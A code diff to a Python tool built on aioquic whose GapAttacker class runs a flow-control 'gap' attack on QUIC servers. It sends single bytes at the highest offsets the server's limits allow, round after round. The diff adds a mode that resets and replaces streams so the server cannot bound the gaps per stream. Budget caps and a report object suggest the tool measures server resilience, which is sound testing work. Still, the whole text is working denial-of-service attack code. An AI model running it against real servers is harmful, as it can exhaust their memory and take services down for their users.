@@ -94,7 +94,8 @@ class GapSender(QuicStreamSender):
     def get_frame(self, max_size: int, max_offset: int | None = None):
         if len(self._pending):  # bytes written the ordinary way go first
             return super().get_frame(max_size, max_offset)
-        if not self._armed or max_offset is None or max_size < 1:
+        # aioquic sized the frame's header for offset 0: leave room for an 8-byte offset
+        if not self._armed or max_offset is None or max_size < 16 or self._reset_error_code is not None:
             self.buffer_is_empty = not self._armed
             return None
         self._armed = False
@@ -120,6 +121,7 @@ class AttackReport:
     seconds: float = 0.0
     datagrams_sent: int = 0
     probes: int = 0
+    streams: int = 0  #: streams attacked
     #: Sum over the attacked streams of the highest offset sent (bytes the peer must account for).
     offsets_sent: int = 0
     #: Largest MAX_DATA and MAX_STREAM_DATA the peer granted.
@@ -243,19 +245,31 @@ class GapAttacker(asyncio.DatagramProtocol):
         return sorted(sid for sid in self.received if sid % 4 == 1)
 
     async def attack(self, stream_ids: list[int], *, seconds: float, max_datagrams: int, cap: int,
-                     on_round=None) -> AttackReport:
+                     renew: bool = False, on_round=None) -> AttackReport:
         """For ``seconds`` (and at most ``max_datagrams`` datagrams sent, and ``cap`` bytes of
         offsets), send on each stream of ``stream_ids`` one byte at the furthest offset the
         server's last MAX_STREAM_DATA and MAX_DATA allow, then wait for the server to answer
-        (an ACK, a new limit) and do it again. ``on_round()`` is called once per round."""
+        (an ACK, a new limit) and do it again. With ``renew``, each round first resets the
+        streams of the last one (final size: the probe's end) and goes on with as many new
+        streams of our own: the gaps must be freed, not only bounded per stream.
+        ``on_round()`` is called once per round."""
         report = AttackReport()
         self.budget.cap = self.conn._remote_max_data_used + cap
         start = self.loop.time()
         deadline = start + seconds
         senders = [self._sender(sid) for sid in stream_ids]
+        touched = list(senders)
         sent0 = self.datagrams_sent
+        first = True
         while (self.closed is None and self.loop.time() < deadline and self.datagrams_sent - sent0 < max_datagrams
                and self.conn._remote_max_data_used < self.budget.cap):
+            if renew and not first:
+                for i, sender in enumerate(senders):
+                    if sender.highest_offset:
+                        self.conn.reset_stream(sender._stream_id, 0)
+                        senders[i] = self._sender(self.conn.get_next_available_stream_id())
+                        touched.append(senders[i])
+            first = False
             for sender in senders:
                 sender.arm()
             self.transmit()
@@ -272,10 +286,11 @@ class GapAttacker(asyncio.DatagramProtocol):
         report.seconds = self.loop.time() - start
         report.datagrams_sent = self.datagrams_sent - sent0
         report.probes = self.budget.probes
-        report.offsets_sent = sum(s.highest_offset for s in senders)
+        report.offsets_sent = sum(s.highest_offset for s in touched)
+        report.streams = len(touched)
         report.max_data = self.conn._remote_max_data
-        report.max_stream_data = max((self.conn._streams[s].max_stream_data_remote for s in stream_ids
-                                      if s in self.conn._streams), default=0)
+        report.max_stream_data = max((self.conn._streams[s._stream_id].max_stream_data_remote for s in touched
+                                      if s._stream_id in self.conn._streams), default=0)
         report.closed = self.closed
         return report
 
